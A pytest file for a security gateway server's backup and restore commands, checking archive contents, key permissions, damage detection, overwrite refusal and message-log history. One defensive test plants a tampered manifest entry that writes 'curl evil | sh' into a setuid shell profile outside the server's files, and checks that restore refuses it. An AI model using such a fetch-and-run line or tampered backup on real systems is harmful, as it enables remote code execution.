"""`gateway server backup` and `restore` on a server's files (no process): what a backup
holds, and what a restore refuses before writing anything. The whole cycle with real
processes is test_backup_wipe_restore_and_resume in tests/integration/test_faults.py."""

from __future__ import annotations

import asyncio
import hashlib
import json
import sqlite3
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest

from security_server.backup import BackupError, backup, restore

NOW = datetime(2026, 12, 1, 10, 0, tzinfo=UTC)


def make_server(root: Path) -> Path:
    """A server's settings, the files they name, a state folder and a SQLite log of three
    records on chain main; returns the settings file."""
    keys = root / "keys"
    keys.mkdir(parents=True)
    for name in ("anchor.json", "auth.crt", "auth.key", "sign.crt", "sign.key"):
        (keys / name).write_bytes(f"content of {name}".encode())
        (keys / name).chmod(0o600 if name.endswith(".key") else 0o644)
    state = root / "state"
    (state / "configuration-parts").mkdir(parents=True)
    (state / "configuration-parts" / "held.json").write_text("{}")
    (state / "ocsp").mkdir()
    (state / "ocsp" / "answer.der").write_bytes(b"ocsp")
    (state / "subject-pseudonym.key").write_bytes(b"s" * 32)
    (state / "archive").mkdir()
    (state / "archive" / "main-000001.jsonl.gz").write_bytes(b"archived records")
    write_log(state / "messagelog.db", 3)
    config = root / "server.toml"
    config.write_text(
        f"""
[server]
id = "UY/GOV/DNIC/ss1"
anchor = "{keys / "anchor.json"}"
state_dir = "{state}"
[provider]
tls_certificate = "{keys / "auth.crt"}"
tls_key = "{keys / "auth.key"}"
[signing."UY/GOV/DNIC"]
certificate = "{keys / "sign.crt"}"
key = "{keys / "sign.key"}"
[log]
database = "{state / "messagelog.db"}"
"""
    )
    return config


def write_log(path: Path, records: int) -> None:
    db = sqlite3.connect(path)
    db.execute("CREATE TABLE IF NOT EXISTS message_log (chain TEXT, seq INTEGER, hash BLOB)")
    db.execute("DELETE FROM message_log")
    db.executemany(
        "INSERT INTO message_log VALUES ('main', ?, ?)",
        [(n, bytes([n]) * 32) for n in range(1, records + 1)],
    )
    db.commit()
    db.close()


def take(config: Path, out: Path) -> None:
    asyncio.run(backup(config, out, now=NOW))


def test_a_backup_holds_settings_keys_state_and_a_log_copy_but_not_archives(
    tmp_path: Path,
) -> None:
    config = make_server(tmp_path / "server")
    out = tmp_path / "backup.zip"
    take(config, out)
    assert out.stat().st_mode & 0o077 == 0  # private keys inside
    with zipfile.ZipFile(out) as zf:
        manifest = json.loads(zf.read("manifest.json"))
    paths = {Path(f["path"]).name for f in manifest["files"]}
    assert paths == {
        "server.toml",
        "anchor.json",
        "auth.crt",
        "auth.key",
        "sign.crt",
        "sign.key",
        "held.json",
        "answer.der",
        "subject-pseudonym.key",
        "messagelog.db",
    }
    assert manifest["log"] == {"kind": "included", "chains": {"main": [3, (b"\x03" * 32).hex()]}}
    modes = {Path(f["path"]).name: f["mode"] for f in manifest["files"]}
    assert modes["auth.key"] == 0o600 and modes["auth.crt"] == 0o644


def test_restore_puts_back_what_is_missing_with_its_mode(tmp_path: Path) -> None:
    config = make_server(tmp_path / "server")
    take(config, tmp_path / "backup.zip")
    key = tmp_path / "server" / "keys" / "auth.key"
    key.unlink()
    (tmp_path / "server" / "state" / "messagelog.db").unlink()
    summary = restore(tmp_path / "backup.zip")
    assert summary.written == 2 and summary.log == "restored"
    assert key.read_bytes() == b"content of auth.key" and key.stat().st_mode & 0o777 == 0o600


def test_a_damaged_backup_restores_nothing(tmp_path: Path) -> None:
    config = make_server(tmp_path / "server")
    take(config, tmp_path / "backup.zip")
    damaged = tmp_path / "damaged.zip"
    with zipfile.ZipFile(tmp_path / "backup.zip") as src, zipfile.ZipFile(damaged, "w") as dst:
        for item in src.infolist():
            data = src.read(item)
            dst.writestr(
                item, data.replace(b"auth.key", b"auth.kez") if "auth" in item.filename else data
            )
    key = tmp_path / "server" / "keys" / "auth.key"
    key.unlink()
    with pytest.raises(BackupError, match="does not match its SHA-256: the backup is damaged"):
        restore(damaged)
    assert not key.exists()


def test_restore_refuses_to_replace_other_content_unless_forced(tmp_path: Path) -> None:
    config = make_server(tmp_path / "server")
    take(config, tmp_path / "backup.zip")
    key = tmp_path / "server" / "keys" / "sign.key"
    key.write_bytes(b"a newer key")
    (tmp_path / "server" / "keys" / "anchor.json").unlink()
    with pytest.raises(BackupError, match=r"sign\.key: exists with other content"):
        restore(tmp_path / "backup.zip")
    assert not (tmp_path / "server" / "keys" / "anchor.json").exists()  # nothing written
    restore(tmp_path / "backup.zip", force=True)
    assert key.read_bytes() == b"content of sign.key"


def test_restore_keeps_a_newer_log_and_newer_caches_and_refuses_an_older_log(
    tmp_path: Path,
) -> None:
    config = make_server(tmp_path / "server")
    take(config, tmp_path / "backup.zip")
    state = tmp_path / "server" / "state"
    (state / "ocsp" / "answer.der").write_bytes(b"a fresher answer")
    write_log(state / "messagelog.db", 5)
    summary = restore(tmp_path / "backup.zip")
    assert (summary.written, summary.log) == (0, "kept")
    assert (state / "ocsp" / "answer.der").read_bytes() == b"a fresher answer"

    write_log(state / "messagelog.db", 2)  # a log reset behind the backup's head
    with pytest.raises(BackupError, match="ends before the backup's"):
        restore(tmp_path / "backup.zip")


def test_a_backup_naming_a_path_outside_the_servers_files_restores_nothing(
    tmp_path: Path,
) -> None:
    """A backup kept apart could be edited: a manifest entry naming any other path (here a
    shell profile, setuid) is refused before anything is written."""
    config = make_server(tmp_path / "server")
    take(config, tmp_path / "backup.zip")
    target = tmp_path / "elsewhere" / ".profile"
    edited = tmp_path / "edited.zip"
    payload = b"curl evil | sh\n"
    with zipfile.ZipFile(tmp_path / "backup.zip") as src, zipfile.ZipFile(edited, "w") as dst:
        manifest = json.loads(src.read("manifest.json"))
        for item in src.infolist():
            if item.filename != "manifest.json":
                dst.writestr(item, src.read(item))
        dst.writestr("files/9999/.profile", payload)
        manifest["files"].append(
            {
                "name": "files/9999/.profile",
                "path": str(target),
                "size": len(payload),
                "mode": 0o4755,
                "sha256": hashlib.sha256(payload).hexdigest(),
                "cache": False,
            }
        )
        dst.writestr("manifest.json", json.dumps(manifest))
    (tmp_path / "server" / "keys" / "auth.key").unlink()
    with pytest.raises(BackupError, match="neither its settings file"):
        restore(edited)
    assert not target.exists()
    assert not (tmp_path / "server" / "keys" / "auth.key").exists()


def test_a_log_with_another_history_is_not_kept_silently(tmp_path: Path) -> None:
    """A log there that reaches the backup's head with other records (a log reset and
    refilled) is not taken for the backup's own."""
    config = make_server(tmp_path / "server")
    take(config, tmp_path / "backup.zip")
    db = sqlite3.connect(tmp_path / "server" / "state" / "messagelog.db")
    db.execute("UPDATE message_log SET hash = zeroblob(32) WHERE seq = 3")
    db.execute("INSERT INTO message_log VALUES ('main', 4, zeroblob(32))")
    db.commit()
    db.close()
    with pytest.raises(BackupError, match="another history"):
        restore(tmp_path / "backup.zip")
